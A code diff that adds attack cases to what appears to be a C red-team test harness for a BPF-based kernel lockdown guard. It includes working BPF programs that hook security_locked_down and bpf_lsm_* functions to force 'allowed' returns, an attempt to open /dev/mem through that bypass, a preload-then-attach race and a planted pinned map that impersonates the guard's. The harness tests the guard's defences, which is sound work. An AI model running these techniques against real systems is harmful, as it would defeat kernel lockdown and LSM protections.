@@ -10,6 +10,9 @@
  * Usage: attack [NAME...]            (default: every attack)
  *        attack --raise-to LEVEL     runs prog_raise_level as anyone could
  *        attack --unrelated          what root may still do with BPF
+ *        attack --preload FILE       loads an fmod_ret program now and
+ *                                    attaches it once FILE exists
+ *        attack --preattach FILE     attaches one now, holds it until FILE
  */
 #include <errno.h>
 #include <fcntl.h>
@@ -182,8 +185,10 @@ static int attack_prog_by_id(void)
 		tried++;
 		if (fd < 0)
 			continue;
+		/* Ours are LSM programs, but for the two syscall ones whose
+		 * fds are handed out; the red team's own are tracing ones. */
 		if (!bpf_obj_get_info_by_fd(fd, &info, &len) &&
-		    info.type != BPF_PROG_TYPE_SYSCALL)
+		    info.type == BPF_PROG_TYPE_LSM)
 			got++;
 		close(fd);
 	}
@@ -281,6 +286,183 @@ static int attack_fmod_ret(void)
 			 BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN);
 }
 
+/* Loads a program of @type returning the 64-bit @ret on vmlinux function
+ * @func: its fd, or -1 with errno set (ENOENT: the kernel has no @func). */
+static int load_returning(const char *func, enum bpf_prog_type type,
+			  enum bpf_attach_type attach, __u64 ret)
+{
+	const struct bpf_insn insns[] = {
+		{ .code = BPF_LD | BPF_DW | BPF_IMM,
+		  .dst_reg = BPF_REG_0,
+		  .imm = (__s32)(__u32)ret },
+		{ .imm = (__s32)(__u32)(ret >> 32) },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	struct btf *vmlinux = btf__load_vmlinux_btf();
+	int btf_id;
+
+	btf_id = vmlinux ? btf__find_by_name_kind(vmlinux, func, BTF_KIND_FUNC)
+			 : -ENOENT;
+	btf__free(vmlinux);
+	if (btf_id < 0) {
+		errno = ENOENT;
+		return -1;
+	}
+	LIBBPF_OPTS(bpf_prog_load_opts, opts, .attach_btf_id = btf_id,
+		    .expected_attach_type = attach);
+	return bpf_prog_load(type, "before_ours", "GPL", insns, 3, &opts);
+}
+
+/*
+ * Every program that could stand before ours: fmod_ret on the security_*()
+ * functions and LSM (also cgroup LSM) programs on the bpf_lsm_*() hooks
+ * that self-protection and enforcement rely on, returning 1, -1 or a value
+ * whose low 32 bits are 0. Each must be refused at load by our guard
+ * (EPERM, before the verifier sees it); any that loads, or fails for
+ * another reason, is a breach. Hooks a kernel lacks are skipped, but at
+ * least one per pair must exist.
+ */
+static int attack_before_ours(void)
+{
+	static const char *const hooks[][2] = {
+		{ "security_bpf_map", "bpf_lsm_bpf_map" },
+		{ "security_bpf_prog", "bpf_lsm_bpf_prog" },
+		{ "security_bpf", "bpf_lsm_bpf" },
+		{ "security_bpf_prog_load", "bpf_lsm_bpf_prog_load" },
+		{ "security_bpf_prog_alloc",
+		  "bpf_lsm_bpf_prog_alloc_security" },
+		{ "security_locked_down", "bpf_lsm_locked_down" },
+		{ "security_inode_permission", "bpf_lsm_inode_permission" },
+		{ "security_sb_umount", "bpf_lsm_sb_umount" },
+	};
+	static const __u64 rets[] = { 1, (__u64)-1, 1ULL << 32 };
+	static const struct {
+		int func; /* index in hooks[] */
+		enum bpf_prog_type type;
+		enum bpf_attach_type attach;
+	} kinds[] = {
+		{ 0, BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN },
+		{ 1, BPF_PROG_TYPE_LSM, BPF_LSM_MAC },
+		{ 1, BPF_PROG_TYPE_LSM, BPF_LSM_CGROUP },
+	};
+	int tried = 0, refused = 0, absent = 0, other = 0, loaded = 0;
+	char detail[160], first[96] = "";
+
+	for (size_t h = 0; h < sizeof(hooks) / sizeof(hooks[0]); h++) {
+		for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
+			for (size_t r = 0; r < sizeof(rets) / sizeof(rets[0]);
+			     r++) {
+				const char *f = hooks[h][kinds[k].func];
+				int fd = load_returning(f, kinds[k].type,
+							kinds[k].attach,
+							rets[r]);
+
+				if (fd < 0 && errno == ENOENT) {
+					absent++;
+					continue;
+				}
+				tried++;
+				if (fd < 0 && errno == EPERM) {
+					refused++;
+					continue;
+				}
+				if (fd >= 0) {
+					loaded++;
+					close(fd);
+				} else {
+					other++;
+				}
+				if (!first[0])
+					snprintf(first, sizeof(first),
+						 " first: %s %s", f,
+						 fd >= 0 ? "loaded"
+							 : strerror(errno));
+			}
+		}
+	}
+	snprintf(detail, sizeof(detail),
+		 "tried=%d refused=%d other=%d loaded=%d absent=%d%s", tried,
+		 refused, other, loaded, absent, first);
+	/* 8 pairs, of which one prog_load/alloc pair is absent: at least
+	 * 7 x 9 programs must have been tried. */
+	return report("before_ours", loaded || other || tried < 63, detail);
+}
+
+/* fmod_ret on security_locked_down() returning a value whose low 32 bits
+ * are 0: the trampoline skips every LSM (the kernel's lockdown included)
+ * and the caller reads 0, "allowed". Breached when /dev/mem opens. */
+static int attack_fmod_ret_dev_mem(void)
+{
+	int prog, link = -1, mem, load_errno;
+	char detail[128];
+
+	prog = load_returning("security_locked_down", BPF_PROG_TYPE_TRACING,
+			      BPF_MODIFY_RETURN, 1ULL << 32);
+	load_errno = errno;
+	if (prog >= 0)
+		link = bpf_link_create(prog, 0, BPF_MODIFY_RETURN, NULL);
+	mem = open("/dev/mem", O_RDONLY);
+	snprintf(detail, sizeof(detail), "load:%s attach:%s /dev/mem:%s",
+		 prog >= 0 ? "ok" : strerror(load_errno),
+		 link >= 0 ? "ok" : "no",
+		 mem >= 0 ? "opened" : strerror(errno));
+	if (mem >= 0)
+		close(mem);
+	if (link >= 0)
+		close(link);
+	if (prog >= 0)
+		close(prog);
+	return report("fmod_ret_dev_mem", mem >= 0, detail);
+}
+
+/* Loads an fmod_ret program (answering 0: it changes nothing yet) before
+ * lockdown, waits until @go exists, then attaches it: an fd held from
+ * before the guard. Breached when it attaches. With --attach-now it
+ * attaches first and holds the link until @go exists. */
+static int preload(const char *go, int attach_now)
+{
+	int prog, link = -1;
+	char detail[96];
+
+	prog = load_returning("security_locked_down", BPF_PROG_TYPE_TRACING,
+			      BPF_MODIFY_RETURN, 0);
+	if (prog < 0) {
+		perror("attack: loading the fmod_ret program");
+		return 2;
+	}
+	if (attach_now) {
+		link = bpf_link_create(prog, 0, BPF_MODIFY_RETURN, NULL);
+		if (link < 0) {
+			perror("attack: attaching the fmod_ret program");
+			return 2;
+		}
+	}
+	printf("PRELOADED %s\n", attach_now ? "attached" : "loaded");
+	fflush(stdout);
+	while (access(go, F_OK))
+		usleep(100000);
+	if (attach_now)
+		return 0;
+	link = bpf_link_create(prog, 0, BPF_MODIFY_RETURN, NULL);
+	snprintf(detail, sizeof(detail), "BPF_LINK_CREATE:%s",
+		 link >= 0 ? "attached" : strerror(errno));
+	return report("preloaded_attach", link >= 0, detail);
+}
+
+/* A map pinned among ours under a marker's name could pass for a
+ * generation of ours. */
+static int attack_plant_pin(void)
+{
+	int map = bpf_map_create(BPF_MAP_TYPE_ARRAY, "planted", 4, 8, 1, NULL);
+	int err;
+
+	if (map < 0)
+		return report_errno("plant_pin", 1, "creating a map");
+	err = bpf_obj_pin(map, PIN_DIR "/build-3-0000000000000000");
+	close(map);
+	return report_errno("plant_pin", !err, "BPF_OBJ_PIN");
+}
+
 /* The ratchet program, run with a lower level, must not lower anything. */
 static int raise_to(const char *arg)
 {
@@ -294,6 +476,28 @@ static int raise_to(const char *arg)
 		return 1;
 	}
 	printf("%d\n", (int)opts.retval);
+	return 0;
+}
+
+static int attach_returning_zero(const char *func, enum bpf_prog_type type,
+				 enum bpf_attach_type attach)
+{
+	int prog = load_returning(func, type, attach, 0), link;
+
+	if (prog < 0) {
+		fprintf(stderr, "unrelated: loading a program on %s: %s\n",
+			func, strerror(errno));
+		return 1;
+	}
+	link = bpf_link_create(prog, 0, attach, NULL);
+	if (link < 0) {
+		fprintf(stderr, "unrelated: attaching a program on %s: %s\n",
+			func, strerror(errno));
+		close(prog);
+		return 1;
+	}
+	close(link);
+	close(prog);
 	return 0;
 }
 
@@ -340,6 +544,14 @@ static int unrelated(void)
 	}
 	close(map);
 	close(fd);
+	/* Other tools' LSM programs on hooks lockdown does not use (as
+	 * systemd's RestrictFileSystems= on file_open), and tracing, keep
+	 * loading and attaching. */
+	if (attach_returning_zero("bpf_lsm_file_open", BPF_PROG_TYPE_LSM,
+				  BPF_LSM_MAC) ||
+	    attach_returning_zero("security_locked_down", BPF_PROG_TYPE_TRACING,
+				  BPF_TRACE_FENTRY))
+		return 1;
 	puts("unrelated BPF use works");
 	return 0;
 }
@@ -415,6 +627,9 @@ static const struct attack {
 	{ "lsm_allow_all", attack_lsm_allow_all },
 	{ "fmod_ret_allow_all", attack_fmod_ret },
 	{ "policy_weaken", attack_policy_weaken },
+	{ "before_ours", attack_before_ours },
+	{ "fmod_ret_dev_mem", attack_fmod_ret_dev_mem },
+	{ "plant_pin", attack_plant_pin },
 };
 
 int main(int argc, char **argv)
@@ -427,6 +642,10 @@ int main(int argc, char **argv)
 		return raise_to(argv[2]);
 	if (argc == 2 && !strcmp(argv[1], "--unrelated"))
 		return unrelated();
+	if (argc == 3 && !strcmp(argv[1], "--preload"))
+		return preload(argv[2], 0);
+	if (argc == 3 && !strcmp(argv[1], "--preattach"))
+		return preload(argv[2], 1);
 	for (size_t i = 0; i < n; i++) {
 		int wanted = argc < 2;
 
